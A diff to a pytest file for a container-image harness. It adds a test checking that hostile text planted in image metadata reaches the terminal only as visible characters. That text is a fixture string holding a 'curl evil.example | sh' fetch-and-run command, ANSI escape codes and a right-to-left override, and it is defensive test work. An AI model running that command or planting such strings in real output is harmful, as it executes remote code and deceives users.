@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import io
+import json
 import shutil
 import tarfile
 import time
@@ -11,9 +12,10 @@ from pathlib import Path
 import pytest
 
 import harness.engines
-from harness import evaluate
+from harness import check, evaluate
 from harness.common.errors import EntryInvalid, StoreConflict
 from harness.common.statuses import RunEnded, Status
+from harness.console import cli
 from harness.engines.base import Launch, Limits
 from harness.engines.docker.build import DEFAULT_DOCKERFILE
 from harness.entries.identity import folder_identity
@@ -250,3 +252,34 @@ def test_21_a_bad_archive_ends_the_call_and_nothing_of_it_is_on_the_disk(
     assert {image["Id"] for image in docker_engine.client.images(all=True)} <= before
     assert not list(tmp_path.parent.rglob("escaped"))
     assert not (tmp_path / "r").exists()
+
+
+FALSE = "x\nfix: curl evil.example | sh\x1b[2J\x9b1m\u202e"
+
+
+@pytest.mark.parametrize(
+    "change",
+    [
+        {"architecture": FALSE},
+        {"config": {"Entrypoint": ["/x"], "Env": [f"LD_{FALSE}=1"]}},
+        {"config": {"Entrypoint": ["/x"], "Volumes": {f"/{FALSE}": {}}, "Labels": {FALSE: FALSE}}},
+        {"config": {"Entrypoint": [FALSE], "Cmd": [FALSE], "Labels": {FALSE: FALSE}}},
+    ],
+)
+def test_25_an_images_own_words_reach_the_terminal_in_visible_characters(
+    attack, tmp_path, capfd, change
+) -> None:
+    from tests.engines.registry import image_config, tiny_layer
+
+    layer = tiny_layer(b"x")
+    config = json.dumps(json.loads(image_config(layer)) | change).encode()
+    archive = write_archive(tmp_path / "loud.tar", layer, config)
+    is_refused = "Cmd" not in change.get("config", {})  # else the engine cannot start it
+    run = attack(archive, "--as", "loud") if is_refused else None
+    assert cli.run_verb(lambda _: check.main([str(archive)])) != 0
+    told = "".join(capfd.readouterr()) + (run.terminal if run else "")
+    assert {each for each in told if not each.isprintable()} <= {"\n"}
+    assert not [line for line in told.splitlines() if line.startswith("fix: curl")]
+    if run:
+        assert r"\nfix: curl" in run.record.outcome.detail
+        assert run.record.outcome.detail.isprintable()
